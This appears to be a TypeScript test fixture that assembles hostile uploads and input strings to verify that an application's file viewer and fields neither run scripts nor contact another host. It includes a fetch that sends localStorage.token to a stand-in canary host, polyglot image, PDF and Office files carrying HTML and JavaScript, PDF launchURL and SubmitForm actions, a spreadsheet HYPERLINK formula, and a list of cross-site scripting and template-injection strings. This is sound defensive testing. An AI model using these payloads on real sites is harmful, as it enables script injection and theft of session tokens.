import { gif, jpeg, ole, openDocument, openXml, png } from "#server/testing/sample-files.ts";
import { fontPdf } from "./hostile-font.ts";

/** Another host, to which no displayed file may send a request. */
export const CANARY = "https://canari.example";

const RUN = `window.parent.pwned=1;window.pwned=1;fetch('${CANARY}/jeton?'+localStorage.token)`;
const HTML = `<!doctype html><html><body onload="${RUN}"><script>${RUN}</script><img src="${CANARY}/x.png" onerror="${RUN}"><svg onload="${RUN}"></svg></body></html>`;
/** Markup after a prefix: a text that begins with markup is refused. */
const LATE_HTML = `Ordre du jour\n${HTML}\n`;

const page = (catalog: string, more: string, resources = ""): string =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n` +
  `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]${resources}>>endobj\n${more}trailer<</Root 1 0 R>>\n%%EOF\n`;

const action = (script: string) => `<</S/JavaScript/JS(${script})>>`;

/**
 * Scripts that PDF readers run, in the browser too, isolated from the page and its token: they send
 * a request with what they find.
 */
const scriptedPdf = page(
  `/OpenAction${action(`app.launchURL\\("${CANARY}/pdf"\\);this.pwned=1`)}/AA<</WC${action("this.pwned=1")}>>/URI<</Base(${CANARY}/)>>`,
  `4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(javascript:window.pwned=1)>>>>endobj\n` +
    `5 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/SubmitForm/F(${CANARY}/)>>>>endobj\n`,
  "/Annots[4 0 R 5 0 R]",
);

export interface HostileFile {
  name: string;
  data: Buffer;
}

/** Files of accepted types, each of which some program has executed. */
export const HOSTILE_FILES: HostileFile[] = [
  { name: "script.pdf", data: Buffer.from(scriptedPdf) },
  { name: "police.pdf", data: fontPdf(RUN) },
  { name: "page.pdf", data: Buffer.from(`%PDF-1.4\n${HTML}\n%%EOF\n`) },
  { name: "page.gif", data: Buffer.concat([gif, Buffer.from(HTML)]) },
  { name: "commande.gif", data: Buffer.from(`GIF89a=1;${RUN}//${"\0".repeat(20)}`) },
  { name: "page.png", data: Buffer.concat([png, Buffer.from(HTML)]) },
  { name: "page.jpg", data: Buffer.concat([jpeg, Buffer.from(HTML)]) },
  { name: "page.txt", data: Buffer.from(LATE_HTML) },
  { name: "commande.txt", data: Buffer.from(`${RUN}\n`) },
  {
    name: "page.csv",
    data: Buffer.from(`nom;lien\n=HYPERLINK("${CANARY}");${HTML.replaceAll("\n", "")}\n`),
  },
  { name: "page.docx", data: openXml("docx", [{ name: "word/page.txt", data: LATE_HTML }]) },
  { name: "page.odt", data: openDocument("odt", [{ name: "page.txt", data: LATE_HTML }]) },
  { name: "page.doc", data: Buffer.concat([ole, Buffer.from(HTML)]) },
];

/** Files refused at upload, whatever their name. */
export const REFUSED_FILES: HostileFile[] = [
  ...[
    "page.html",
    "dessin.svg",
    "page.xhtml",
    "page.pdf.html",
    "page.txt",
    "page.csv",
    "page.png",
    "page.xml",
    "commande.js",
  ].map((name) => ({
    name,
    data: Buffer.from(
      name.endsWith(".svg") ? `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>` : HTML,
    ),
  })),
  { name: "page.docx", data: openXml("docx", [{ name: "word/page.html", data: HTML }]) },
  { name: "page.odt", data: openDocument("odt", [{ name: "page.html", data: HTML }]) },
];

/** Texts that careless pages have run or turned into links; short enough for every field. */
export const HOSTILE_TEXTS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  '"><svg onload=window.pwned=1>',
  "javascript:window.pwned=1",
  "' onmouseover='window.pwned=1",
  "{{constructor.constructor('window.pwned=1')()}}",
  "</title></script><script>window.pwned=1</script>",
  "[x](javascript:window.pwned=1) ![x](https://canari.example/i)",
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  "//canari.example/x <a href=//canari.example>x</a>",
];
